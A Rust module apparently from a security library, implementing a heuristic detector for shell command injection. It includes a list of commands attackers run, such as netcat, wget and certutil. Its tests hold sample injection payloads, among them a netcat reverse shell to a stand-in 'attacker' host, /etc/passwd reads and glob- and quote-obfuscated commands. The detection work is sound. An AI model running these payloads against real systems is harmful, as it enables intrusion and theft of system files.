//! The shell command injection detector and its lists of commands.
//! Separate because it reads shell syntax: separators, substitutions and
//! the first word of a command.

use super::Verdict;
use super::decode::{charge, scan};

/// Commands attackers run first.
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "cat",
    "ls",
    "dir",
    "pwd",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "ping",
    "sleep",
    "echo",
    "rm",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "nslookup",
    "dig",
    "ifconfig",
    "ipconfig",
    "net",
    "type",
    "whoami.exe",
    "powershell",
    "cmd",
    "cmd.exe",
    "systeminfo",
    "hostname",
    "env",
    "printenv",
    "chmod",
    "chown",
    "touch",
    "tftp",
    "telnet",
    "xterm",
    "nohup",
    "base64",
    "sudo",
    "su",
    "kill",
    "reboot",
    "shutdown",
    "find",
    "grep",
    "head",
    "tail",
    "more",
    "less",
    "expr",
    "timeout",
    "usleep",
    "ps",
    "netstat",
    "netsh",
    "reg",
    "route",
    "sysinfo",
    "arp",
    "nmap",
    "ssh",
    "scp",
    "crontab",
    "awk",
    "sed",
    "xargs",
    "mkfifo",
    "certutil",
    "bitsadmin",
    "wscript",
    "cscript",
];

/// Flags input that looks like shell command injection: a command
/// separator (`;`, `|`, `||`, `&&`, `&`, a newline) or a substitution (`` ` ``,
/// `$(`) followed by a common command, `${IFS}` tricks, shell paths
/// (`/bin/sh`, `cmd.exe`), and redirections to absolute paths.
///
/// Defense in depth only: never pass input to a shell; pass arguments to
/// `std::process::Command` one by one.
///
/// # Examples
///
/// ```
/// use pr_security::signals::{Verdict, command_injection_signal};
///
/// assert!(command_injection_signal("8.8.8.8; cat /etc/passwd").is_suspicious());
/// assert!(command_injection_signal("$(whoami)").is_suspicious());
/// assert_eq!(command_injection_signal("Fish & Chips; Salt"), Verdict::Clean);
/// ```
#[must_use]
pub fn command_injection_signal(input: &str) -> Verdict {
    scan(input, false, command_window)
}

/// One window of normalised input (see `decode::scan`).
fn command_window(text: &str) -> Verdict {
    let bytes = text.as_bytes();
    if text.contains("${ifs") || text.contains("$ifs") {
        return Verdict::Suspicious("ifs obfuscation");
    }
    for shell in [
        "/bin/sh",
        "/bin/bash",
        "/bin/zsh",
        "/usr/bin/",
        "/bin/nc",
        "/dev/tcp/",
        "cmd.exe",
        "cmd /c",
        "powershell",
    ] {
        if text.contains(shell) {
            return Verdict::Suspicious("shell path");
        }
    }
    if let Some(start) = text.find("$(")
        && text[start..].contains(')')
    {
        return Verdict::Suspicious("command substitution");
    }
    if let Some(start) = text.find('`')
        && let Some(len) = text[start + 1..].find('`')
    {
        let inner = &text[start + 1..start + 1 + len];
        // In prose, a command name alone in backticks is a Markdown code
        // span (`sysinfo`, [`nc`]): count a lone word only at the start,
        // after a separator, or glued to the word before it (`` x`id` ``,
        // which the shell substitutes and Markdown does not write). A
        // command with arguments counts anywhere.
        let before = text[..start].chars().next_back();
        let at_boundary = text[..start]
            .trim_end()
            .chars()
            .next_back()
            .is_none_or(|c| matches!(c, ';' | '|' | '&' | '(' | '$' | '=' | '\'' | '"'));
        let glued = before.is_some_and(|c| c.is_ascii_alphanumeric());
        let lone = !inner.trim().contains(char::is_whitespace);
        if first_word_is_command(inner) && (at_boundary || glued || !lone) {
            return Verdict::Suspicious("command substitution");
        }
    }
    for call in [
        "system(",
        "exec(",
        "passthru(",
        "shell_exec(",
        "popen(",
        "proc_open(",
        "pcntl_exec(",
        "runtime.getruntime",
        "child_process",
        "os.system(",
        "subprocess.",
    ] {
        if text.contains(call) {
            return Verdict::Suspicious("code execution call");
        }
    }
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        // A literal `\n` (backslash, n) is a separator once something unescapes it.
        if b == b'\\' && bytes.get(i + 1) == Some(&b'n') && first_word_is_command(&text[i + 2..]) {
            return Verdict::Suspicious("command separator followed by a command");
        }
        if matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r') {
            let mut j = i + 1;
            while bytes
                .get(j)
                .is_some_and(|c| matches!(c, b'|' | b'&' | b' ' | b'\t' | b'\n' | b'\r'))
            {
                j += 1;
            }
            charge(j - i);
            if first_word_is_command(&text[j..]) {
                return Verdict::Suspicious("command separator followed by a command");
            }
            // A command the list does not know, recognised by its grammar:
            // a name, then an option or an absolute path. Not after a lone
            // `&` (prose: "Salt & pepper") or a line break (pasted shell
            // snippets in honest text), where it would flag too much.
            let operators = bytes[i..j]
                .iter()
                .filter(|c| matches!(c, b';' | b'|' | b'&'))
                .count();
            let lone_amp = operators == 1 && b == b'&';
            if matches!(b, b';' | b'|' | b'&') && !lone_amp && command_with_option(&text[j..]) {
                return Verdict::Suspicious("command separator followed by a command");
            }
            // Every separator in `i + 1..j` would skip to the same `j` and
            // ask the same question: go on from `j`. Without this, a run of
            // 16 KiB of `&` cost 0.2–0.4 s (quadratic).
            i = j.max(i + 1);
            continue;
        }
        i += 1;
    }
    // Brace expansion runs `{cat,/etc/passwd}` as `cat /etc/passwd`.
    for (i, _) in text.match_indices('{') {
        if brace_expansion_at(&text[i + 1..]) {
            return Verdict::Suspicious("brace expansion of a command");
        }
    }
    for redirect in ["> /", ">/", ">> /", "< /etc", "</etc"] {
        if text.contains(redirect) {
            return Verdict::Suspicious("redirection to an absolute path");
        }
    }
    Verdict::Clean
}

/// Command names that are also common words: they count only when an
/// argument-like token or nothing follows.
const AMBIGUOUS: &[&str] = &[
    "cat", "dir", "type", "net", "more", "less", "head", "tail", "find", "echo", "sleep", "kill",
    "env", "touch", "expr", "ping", "su", "id", "ls", "ps", "sh", "timeout", "grep",
];

/// Bytes a shell word can hold for these rules: a name or path, the
/// quotes and backslashes the shell removes from inside a word
/// (`w'h'o'am'i` is `whoami`), and glob characters.
fn is_word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(
            c,
            b'.' | b'_' | b'/' | b'\'' | b'"' | b'\\' | b'?' | b'*' | b'[' | b']'
        )
}

/// Whether `text` starts with a known command as a whole word: after the
/// shell's quote removal, or as a glob path (`/???/??t` is `/bin/cat`).
fn first_word_is_command(text: &str) -> bool {
    let trimmed = text.trim_start();
    let bytes = trimmed.as_bytes();
    // A word ends where a literal `\n` begins: that is a separator of its
    // own (and a candidate of its own, so reading over it would read the
    // same bytes again from each: quadratic on a run of `\n`).
    let word_len = (0..bytes.len())
        .find(|&k| !is_word_byte(bytes[k]) || bytes[k..].starts_with(b"\\n"))
        .unwrap_or(bytes.len());
    charge(text.len() - trimmed.len() + word_len + 1);
    let word = &trimmed[..word_len];
    // Most candidates (runs of `;`, `&#`) have no word: answer before
    // comparing with every command.
    if word.is_empty() {
        return false;
    }
    // A path of two or more segments with glob characters: the shell runs
    // whatever it matches.
    if word.starts_with('/') && word.matches('/').count() >= 2 && word.contains(['?', '*', '[']) {
        return true;
    }
    let unquoted: String = word
        .chars()
        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
        .collect();
    let name = unquoted.rsplit('/').next().unwrap_or(&unquoted);
    if !COMMANDS.contains(&name) {
        return false;
    }
    let rest = &trimmed[word.len()..];
    let Some(after) = rest.chars().next() else {
        return true;
    };
    if matches!(
        after,
        ';' | '|' | '&' | '`' | ')' | '$' | '<' | '>' | '\n' | '\r' | '#' | '\\'
    ) {
        return true;
    }
    if !matches!(after, ' ' | '\t') {
        return false;
    }
    if !AMBIGUOUS.contains(&name) {
        return true;
    }
    let arg = rest.trim_start();
    charge(rest.len() - arg.len());
    arg.is_empty()
        || arg.starts_with(|c: char| {
            c.is_ascii_digit()
                || matches!(
                    c,
                    '-' | '/'
                        | '.'
                        | '$'
                        | '~'
                        | '\''
                        | '"'
                        | '*'
                        | ';'
                        | '|'
                        | '&'
                        | '\n'
                        | '%'
                        | '\\'
                )
        })
        || is_drive_path(arg.as_bytes())
}

/// `c:\` or `c:/`: a Windows path (`& type c:\windows\win.ini`).
fn is_drive_path(arg: &[u8]) -> bool {
    matches!(arg, [d, b':', b'\\' | b'/', ..] if d.is_ascii_alphabetic())
}

/// A word the command list does not hold, followed by an option
/// (`-x`, `--long`) or an absolute path: the grammar of a command line.
fn command_with_option(text: &str) -> bool {
    let bytes = text.as_bytes();
    let len = bytes
        .iter()
        .take_while(|b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'_' | b'-' | b'.')
        })
        .count();
    let spaces = bytes[len..].iter().take_while(|b| **b == b' ').count();
    charge(len + spaces + 1);
    if len < 2 || !bytes[0].is_ascii_lowercase() || spaces == 0 {
        return false;
    }
    match &bytes[len + spaces..] {
        [b'-', b'-', c, ..] | [b'-' | b'/', c, ..] => c.is_ascii_lowercase(),
        _ => false,
    }
}

/// After `{`: a known command, `,`, and an argument (`{cat,/etc/passwd}`,
/// `{ls,-la}`); `{id, name}` in code has a space, not an argument, after
/// the comma.
fn brace_expansion_at(text: &str) -> bool {
    let bytes = text.as_bytes();
    let len = bytes
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'/'))
        .count();
    charge(len + 1);
    if len == 0 {
        return false;
    }
    let word = &text[..len];
    let name = word.rsplit('/').next().unwrap_or(word);
    COMMANDS.contains(&name)
        && bytes.get(len) == Some(&b',')
        && bytes
            .get(len + 1)
            .is_some_and(|c| c.is_ascii_digit() || matches!(c, b'-' | b'/' | b'.' | b'$' | b'~'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command() {
        for attack in [
            "; id",
            "| whoami",
            "&& cat /etc/passwd",
            "`id`",
            "$(sleep 5)",
            "a;${IFS}cat${IFS}/etc/passwd",
            "127.0.0.1\nls -la",
            "x | nc attacker 4444 -e /bin/sh",
            "|| ping -c 10 127.0.0.1",
            "& dir",
        ] {
            assert!(command_injection_signal(attack).is_suspicious(), "{attack}");
        }
        for honest in [
            "Fish & Chips",
            "rock | roll",
            "Q&A; session",
            "Salt & Pepper; Sugar",
            "price: $5 (about)",
            "see: cat pictures",
            "Tom & Jerry; Cat and Mouse",
            "If the `ssh` feature is enabled",
            "[`nc`]: https://crates.io/crates/nc",
            "I wrote how `sysinfo` reads it",
        ] {
            assert_eq!(command_injection_signal(honest), Verdict::Clean, "{honest}");
        }
        for attack in ["`whoami`", "x`id`", "a;`uname`", "see `cat /etc/passwd`"] {
            assert_eq!(
                command_injection_signal(attack),
                Verdict::Suspicious("command substitution"),
                "{attack}"
            );
        }
    }

    /// Forms the shell's grammar runs: quote removal inside a word, glob
    /// paths, brace expansion, Windows paths as arguments, and a command
    /// the list does not know followed by an option or an absolute path.
    #[test]
    fn shell_grammar() {
        for (attack, reason) in [
            (";w'h'o'am'i", "command separator followed by a command"),
            (
                "|c\"a\"t /etc/passwd",
                "command separator followed by a command",
            ),
            (";w\\ho\\ami", "command separator followed by a command"),
            (
                ";/???/??t /???/p??s??",
                "command separator followed by a command",
            ),
            ("|/usr/b*/id", "command separator followed by a command"),
            ("{cat,/etc/passwd}", "brace expansion of a command"),
            ("x;{ls,-la}", "brace expansion of a command"),
            (
                "& type C:\\windows\\win.ini",
                "command separator followed by a command",
            ),
            ("& dir C:\\", "command separator followed by a command"),
            (
                "& type %windir%\\win.ini",
                "command separator followed by a command",
            ),
            ("| xyzzy -a", "command separator followed by a command"),
            (
                "; frobnicate --all",
                "command separator followed by a command",
            ),
            (
                "&& tool /etc/shadow",
                "command separator followed by a command",
            ),
        ] {
            assert_eq!(
                command_injection_signal(attack),
                Verdict::Suspicious(reason),
                "{attack}"
            );
        }
        for honest in [
            "Salt & pepper -free",
            "{id, name}",
            "Q&A; see -5 degrees",
            "a; b -c",
            "Tom & Jerry; Cat and Mouse",
            "don't; it's fine",
            "Really; /? is the help flag",
            "line one\nfoo -bar",
        ] {
            assert_eq!(command_injection_signal(honest), Verdict::Clean, "{honest}");
        }
    }
}
